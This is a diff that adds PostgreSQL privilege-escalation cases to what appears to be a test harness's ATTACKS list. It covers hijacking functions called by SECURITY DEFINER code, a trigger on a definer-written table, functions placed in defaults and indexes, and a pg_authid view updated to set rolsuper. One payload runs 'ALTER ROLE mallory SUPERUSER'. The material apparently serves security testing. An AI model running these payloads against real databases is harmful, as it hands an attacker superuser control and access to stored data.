@@ -333,6 +333,83 @@ ATTACKS = (
         versions=(14, 99),
     ),
     Attack(
+        "function-that-a-definer-calls",
+        ("definer-call",),
+        LAB
+        + """
+        CREATE FUNCTION lab.part(n integer) RETURNS integer LANGUAGE plpgsql AS $f$ BEGIN RETURN n; END $f$;
+        ALTER FUNCTION lab.part(integer) OWNER TO mallory;
+        GRANT CREATE ON SCHEMA lab TO mallory;
+        CREATE FUNCTION lab.whole(n integer) RETURNS integer LANGUAGE plpgsql SECURITY DEFINER
+            SET search_path = pg_catalog, pg_temp AS $f$ BEGIN RETURN lab.part(n); END $f$;
+        """,
+        (
+            "CREATE OR REPLACE FUNCTION lab.part(n integer) RETURNS integer LANGUAGE plpgsql AS"
+            f" $f$ BEGIN {TAKE} RETURN n; END $f$",
+            "SELECT lab.whole(1)",
+        ),
+    ),
+    Attack(
+        "table-that-a-definer-writes",
+        ("definer-call",),
+        LAB
+        + """
+        CREATE TABLE lab.log (what text);
+        ALTER TABLE lab.log OWNER TO mallory;
+        CREATE SCHEMA mallory AUTHORIZATION mallory;
+        GRANT USAGE ON SCHEMA mallory TO PUBLIC;
+        CREATE FUNCTION lab.note(what text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER
+            SET search_path = pg_catalog, pg_temp AS $f$ BEGIN INSERT INTO lab.log VALUES (what); END $f$;
+        """,
+        (
+            _trigger("mallory.take()"),
+            "CREATE TRIGGER take BEFORE INSERT ON lab.log FOR EACH ROW EXECUTE PROCEDURE mallory.take()",
+            "SELECT lab.note('x')",
+        ),
+    ),
+    Attack(
+        "function-in-a-default",
+        ("expression",),
+        LAB
+        + """
+        CREATE FUNCTION lab.next() RETURNS integer LANGUAGE plpgsql AS $f$ BEGIN RETURN 1; END $f$;
+        ALTER TABLE lab.patient ALTER id SET DEFAULT lab.next();
+        ALTER FUNCTION lab.next() OWNER TO mallory;
+        GRANT CREATE ON SCHEMA lab TO mallory;
+        """,
+        (
+            "CREATE OR REPLACE FUNCTION lab.next() RETURNS integer LANGUAGE plpgsql AS"
+            f" $f$ BEGIN {TAKE} RETURN 1; END $f$",
+        ),
+        victim="INSERT INTO lab.patient (nir) VALUES ('made up')",
+    ),
+    Attack(
+        "function-in-an-index",
+        ("expression",),
+        LAB
+        + """
+        CREATE FUNCTION lab.plain(nir text) RETURNS text LANGUAGE plpgsql IMMUTABLE
+            AS $f$ BEGIN RETURN nir; END $f$;
+        CREATE INDEX plain ON lab.patient (lab.plain(nir));
+        ALTER FUNCTION lab.plain(text) OWNER TO mallory;
+        GRANT CREATE ON SCHEMA lab TO mallory;
+        """,
+        (
+            "CREATE OR REPLACE FUNCTION lab.plain(nir text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS"
+            f" $f$ BEGIN {TAKE.replace('EXECUTE', 'PERFORM lab.take_now(); --')} RETURN nir; END $f$",
+            "CREATE FUNCTION lab.take_now() RETURNS void LANGUAGE plpgsql VOLATILE AS"
+            " $f$ BEGIN EXECUTE 'ALTER ROLE mallory SUPERUSER'; END $f$",
+        ),
+        victim="ANALYZE lab.patient",
+    ),
+    Attack(
+        "view-that-writes-to-the-catalog",
+        ("catalog-view",),
+        "CREATE VIEW public.logins AS SELECT rolname, rolsuper FROM pg_authid;"
+        "GRANT SELECT, UPDATE ON public.logins TO mallory;",
+        ("UPDATE public.logins SET rolsuper = true WHERE rolname = 'mallory'",),
+    ),
+    Attack(
         "server-function-that-writes",
         ("server-function",),
         "GRANT EXECUTE ON FUNCTION lo_export(oid, text) TO mallory;",
